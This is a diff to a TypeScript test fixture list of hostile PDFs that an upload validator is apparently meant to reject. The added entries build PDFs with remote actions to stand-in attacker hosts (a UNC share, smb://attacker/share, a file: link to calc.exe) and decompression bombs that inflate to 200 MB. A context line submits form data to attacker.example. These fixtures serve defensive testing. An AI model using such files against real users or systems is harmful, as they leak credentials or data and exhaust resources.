@@ -290,6 +290,78 @@ export const HOSTILE_FILES: readonly HostileFile[] = [
     build: () => pdfWithAction({ S: "SubmitForm", F: PDFString.of("https://attacker.example/collect") }),
   },
   {
+    name: "a PDF that opens a file on a network share when opened (OpenAction GoToR, issue 19)",
+    filename: "statement.pdf",
+    reason: "remoteAction",
+    build: () =>
+      pdfWithCatalog("OpenAction", (ctx) =>
+        ctx.obj({ S: "GoToR", F: PDFHexString.fromText(String.raw`\\attacker\share\x.pdf`), D: [0, "Fit"] }),
+      ),
+  },
+  {
+    name: "a PDF whose link goes to another PDF file (GoToR)",
+    filename: "statement.pdf",
+    reason: "remoteAction",
+    build: () => pdfWithAction({ S: "GoToR", F: PDFString.of("other.pdf"), D: [0, "Fit"] }),
+  },
+  {
+    name: "a PDF whose link is a file: address",
+    filename: "statement.pdf",
+    reason: "remoteAction",
+    build: () => pdfWithAction({ S: "URI", URI: PDFString.of("file:///C:/Windows/System32/calc.exe") }),
+  },
+  {
+    name: "a PDF whose link is a network path without a scheme",
+    filename: "statement.pdf",
+    reason: "remoteAction",
+    build: () => pdfWithAction({ S: "URI", URI: PDFHexString.fromText(String.raw`\\attacker\share`) }),
+  },
+  {
+    name: "a PDF whose link is an smb: address behind a reference",
+    filename: "statement.pdf",
+    reason: "remoteAction",
+    build: () =>
+      statementPdf(1, (doc, page) => {
+        const uri = doc.context.register(PDFString.of("smb://attacker/share"));
+        const action = doc.context.register(doc.context.obj({ S: "URI", URI: uri }));
+        const link = doc.context.register(
+          doc.context.obj({ Type: "Annot", Subtype: "Link", Rect: [0, 0, 10, 10], A: action }),
+        );
+        page.node.set(PDFName.of("Annots"), doc.context.obj([link]));
+      }),
+  },
+  {
+    name: "a PDF with a thread action into another file",
+    filename: "statement.pdf",
+    reason: "remoteAction",
+    build: () => pdfWithAction({ S: "Thread", F: PDFString.of("other.pdf"), D: 0 }),
+  },
+  {
+    name: "a 200 KB PDF whose page stream inflates to 200 MB (issue 19)",
+    filename: "statement.pdf",
+    reason: "inflatesTooMuch",
+    build: () =>
+      statementPdf(1, (doc, page) => {
+        const bomb = zlib.deflateSync(Buffer.alloc(200 * 1024 * 1024, 0x20), { level: 9 });
+        const stream = doc.context.register(
+          doc.context.stream(bomb, { Filter: "FlateDecode", Length: bomb.length }),
+        );
+        page.node.set(PDFName.of("Contents"), stream);
+      }),
+  },
+  {
+    name: "a PDF whose object stream inflates past the limit, written by hand",
+    filename: "statement.pdf",
+    reason: "inflatesTooMuch",
+    build: () => {
+      const bomb = zlib.deflateSync(Buffer.alloc(80 * 1024 * 1024, 0x20), { level: 9 }).toString("latin1");
+      return handWrittenPdf([
+        ...ONE_PAGE(),
+        `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n${bomb}\nendstream`,
+      ]);
+    },
+  },
+  {
     name: "a PDF that imports form data",
     filename: "statement.pdf",
     reason: "formSubmission",
